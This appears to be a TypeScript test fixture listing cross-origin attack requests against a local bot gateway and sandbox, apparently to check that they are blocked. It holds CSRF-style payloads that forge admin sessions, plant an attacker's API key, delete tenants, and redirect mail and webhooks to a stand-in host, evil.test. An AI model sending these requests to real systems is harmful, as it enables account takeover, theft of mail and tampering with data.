import type { LocalInstallation } from './local-installation.ts';

/** One thing that a page tries. */
export interface AttackRequest {
  url: string;
  method: 'GET' | 'POST' | 'DELETE';
  /** Types other than JSON go to another origin without a question. */
  contentType?: string;
  body?: string;
}

const json = 'application/json';

/** Attacks on the gateway: reading, restarting, planting, taking over, deleting. */
export function gatewayAttacks({ demo }: LocalInstallation, origin: string): AttackRequest[] {
  const { tenantId, botId } = demo;
  const at = (path: string) => `${origin}${path}`;
  return [
    { method: 'GET', url: at('/api/current-user') },
    { method: 'GET', url: at('/api/bots/tenants') },
    { method: 'GET', url: at(`/api/bots/${tenantId}/${botId}/integrations`) },
    { method: 'GET', url: at('/api/system/logs') },
    { method: 'POST', url: at('/api/system/services/usage/restart') },
    {
      method: 'POST',
      url: at('/api/context-sources/upload?title=planted'),
      contentType: 'text/plain',
      body: 'Our account number is 666.',
    },
    {
      method: 'POST',
      url: at('/api/bots/tenants'),
      contentType: 'text/plain',
      body: JSON.stringify({ name: 'Owned' }),
    },
    {
      method: 'POST',
      url: at(`/api/keys/${tenantId}`),
      contentType: json,
      body: JSON.stringify({ provider: 'openai', apiKey: 'sk-of-the-attacker-00' }),
    },
    { method: 'DELETE', url: at(`/api/bots/tenants/${tenantId}`) },
  ];
}

/**
 * And at the sandbox: a session of the admin, somebody else's mail, the bot's words, the provider's people, the model.
 */
export function sandboxAttacks(botToken: string, origin: string): AttackRequest[] {
  const at = (path: string) => `${origin}${path}`;
  const asAdmin = JSON.stringify({ userId: 'user_admin' });
  const route = JSON.stringify({ address: '*', url: 'http://evil.test/mail' });
  return [
    { method: 'GET', url: at('/') },
    { method: 'GET', url: at('/api/bots') },
    { method: 'GET', url: at('/api/people') },
    { method: 'POST', url: at('/api/session-token'), contentType: json, body: asAdmin },
    { method: 'POST', url: at('/api/session-token'), contentType: 'text/plain', body: asAdmin },
    { method: 'POST', url: at('/api/mail/routes'), contentType: json, body: route },
    { method: 'GET', url: at(`/messenger/bot${botToken}/sendMessage?chat_id=1&text=owned`) },
    {
      method: 'POST',
      url: at('/messenger/bot1:x/setWebhook?url=http://evil.test/'),
      contentType: 'text/plain',
    },
    { method: 'GET', url: at('/idp/v1/users') },
    {
      method: 'POST',
      url: at('/model/v1/chat/completions'),
      contentType: 'text/plain',
      body: '{"model":"sandbox","messages":[{"role":"user","content":"hi"}]}',
    },
    { method: 'GET', url: at('/tools/api/v3/toolkits') },
  ];
}
